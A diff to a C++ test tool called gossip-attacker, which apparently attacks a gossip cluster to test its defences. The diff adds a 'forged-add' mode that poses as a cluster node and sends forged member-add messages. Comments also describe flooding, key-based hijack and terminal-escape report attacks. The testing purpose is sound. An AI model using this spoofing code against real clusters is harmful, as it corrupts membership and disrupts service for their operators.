@@ -20,6 +20,10 @@
 //     others send) with a report whose strings hold terminal escapes and whose numbers
 //     are as large as msgpack holds (gossipctl doctor's reports).
 //
+//   gossip-attacker forged-add --target EP --as-node N [--count K]
+//     Poses as node N of a plain cluster and tells the node at --target that K nodes
+//     joined (member adds nobody asked for).
+//
 //   gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]
 //     With node K's own valid CURVE key (read from gossipctl cluster --curve's run
 //     directory: a compromised node), connects to node 0 again and again presenting
@@ -61,6 +65,7 @@ using Clock = std::chrono::steady_clock;
                "usage: gossip-attacker idle-connect --parent PID [--seconds S]\n"
                "       gossip-attacker multipart-flood --parent PID --as-node N [--seconds S]\n"
                "       gossip-attacker hijack --parent PID --key-of K --claim N [--seconds S]\n"
+               "       gossip-attacker forged-add --target EP --as-node N [--count K]\n"
                "       gossip-attacker inspect-flood --target EP --listen EP --as-node N "
                "[--seconds S]\n");
   std::exit(2);
@@ -367,10 +372,33 @@ int inspect_flood(const std::string& target, const std::string& listen, int as_n
 
 }  // namespace
 
+// Poses as node N of a plain cluster and sends the node at `target` `count` adds of
+// members that never asked to join (ids 1000 on, endpoints on loopback), 1 ms apart.
+int forged_add(const std::string& target, int as_node, int count) {
+  using gossip::proto::Member;
+  zmq::context_t context;
+  zmq::socket_t out(context, zmq::socket_type::dealer);
+  out.set(zmq::sockopt::routing_id, "node-" + std::to_string(as_node));
+  out.set(zmq::sockopt::linger, 2000);
+  out.connect(target);
+  for (int i = 0; i < count; ++i) {
+    const std::string endpoint = "tcp://127.0.0.1:" + std::to_string(20000 + i);
+    const std::string head = gossip::proto::encode_head(
+        static_cast<uint32_t>(as_node), 0,
+        Member{Member::kAdd, static_cast<uint32_t>(1000 + i), static_cast<uint64_t>(i + 1)},
+        endpoint.size());
+    (void)out.send(zmq::buffer(head), zmq::send_flags::sndmore);
+    (void)out.send(zmq::buffer(endpoint));
+    std::this_thread::sleep_for(std::chrono::milliseconds(1));
+  }
+  std::printf("sent %d forged adds\n", count);
+  return 0;
+}
+
 int main(int argc, char** argv) {
   if (argc < 2) usage();
   const std::string mode = argv[1];
-  int parent = -1, as_node = -1, key_of = -1, claim = -1;
+  int parent = -1, as_node = -1, key_of = -1, claim = -1, count = 1;
   std::string target, listen;
   double seconds = 3600;
   for (int i = 2; i + 1 < argc; i += 2) {
@@ -381,6 +409,8 @@ int main(int argc, char** argv) {
       key_of = std::atoi(argv[i + 1]);
     else if (flag == "--claim")
       claim = std::atoi(argv[i + 1]);
+    else if (flag == "--count")
+      count = std::atoi(argv[i + 1]);
     else if (flag == "--as-node")
       as_node = std::atoi(argv[i + 1]);
     else if (flag == "--seconds")
@@ -397,6 +427,8 @@ int main(int argc, char** argv) {
     return hijack(parent, key_of, claim, seconds);
   if (mode == "inspect-flood" && !target.empty() && !listen.empty() && as_node >= 0)
     return inspect_flood(target, listen, as_node, seconds);
+  if (mode == "forged-add" && !target.empty() && as_node >= 0)
+    return forged_add(target, as_node, count);
   if (mode == "multipart-flood" && parent > 0 && as_node >= 0)
     return multipart_flood(parent, as_node, seconds);
   usage();
